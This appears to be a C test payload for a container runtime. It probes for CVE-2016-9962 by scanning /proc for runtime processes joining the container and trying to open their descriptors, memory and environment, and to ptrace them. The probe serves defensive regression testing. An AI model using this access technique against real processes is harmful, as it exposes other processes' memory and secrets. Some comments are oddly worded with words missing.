/* SPDX-License-Identifier: Apache-2.0 */
/* A process that tries to get at a runtime's while that joins the container (CVE-2016-9962). */
#include "payload.h"

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_ours(int pid)
{
    char path[64];
    char name[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || read(fd, name, sizeof name - 1) <= 0)
        name[0] = 0;
    if (fd >= 0)
        close(fd);
    return !name[0] || strncmp(name, "payload", 7) == 0;
}

/* What it got at, if it was the runtime's still. */
static void report(int pid, const char *what, int success)
{
    if (success && !is_ours(pid))
        printf("caught %s\n", what);
}

static void open_it(int pid, const char *what, const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC);
    report(pid, what, fd >= 0);
    if (fd >= 0)
        close(fd);
}

static void attack(int pid)
{
    char path[64];
    for (int number = 0; number < 16; number++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
        open_it(pid, "fd", path, O_PATH);
    }
    const char *names[] = {"mem", "environ", "cwd", "root", "exe", "ns/mnt"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        open_it(pid, names[i], path, O_RDONLY);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        report(pid, "ptrace", 1);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* MILLISECONDS: "caught WHAT" each time, and how often a process of the runtime was there to see */
void do_hunt(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    long end = now.tv_sec * 1000 + now.tv_nsec / 1000000 + number(0);
    long seen = 0;
    puts("ready");
    fflush(stdout);
    do {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid =
                isdigit((unsigned char)entry->d_name[0]) ? (int)strtol(entry->d_name, 0, 10) : 0;
            if (pid <= 1 || pid == getpid() || is_ours(pid))
                continue;
            seen++;
            attack(pid);
        }
        if (proc)
            closedir(proc);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec * 1000 + now.tv_nsec / 1000000 < end);
    printf("seen %ld\n", seen);
}
